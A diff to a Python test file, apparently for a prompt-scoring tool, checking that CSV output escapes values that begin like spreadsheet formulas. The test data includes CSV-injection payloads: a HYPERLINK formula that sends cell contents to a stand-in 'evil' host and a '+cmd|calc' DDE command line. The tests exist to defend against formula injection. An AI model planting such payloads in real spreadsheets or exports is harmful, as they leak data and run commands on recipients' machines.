@@ -235,3 +235,10 @@ def test_a_prompt_that_starts_like_a_formula_is_written_as_text(tmp_path):
                  "--set", f"coco={tmp_path / 'ben.txt'}", "--output-dir", str(out), "--no-progress"]) == 0
     prompts = [r["prompt"] for r in _csv(out / "scores_p4d.csv")]
     assert sorted(prompts) == sorted(["'" + '=HYPERLINK("http://evil/?"&A1,"click")', "'+cmd|calc!A1"])
+    # a set's own categories too, by the same writer (a thirty-sixth pass: "=1+2, sexual" was written raw)
+    (tmp_path / "i2p.csv").write_text('prompt,categories\na naked woman,"=1+2,sexual"\na cat,@SUM(A1)\n',
+                                      encoding="utf-8")
+    out = tmp_path / "run-i2p"
+    assert main(["--guard", "mini", "--suite", "i2p", "--set", f"i2p={tmp_path / 'i2p.csv'}",
+                 "--set", f"coco={tmp_path / 'ben.txt'}", "--output-dir", str(out), "--no-progress"]) == 0
+    assert sorted(r["categories"] for r in _csv(out / "scores_i2p.csv")) == ["'=1+2, sexual", "'@SUM(A1)"]
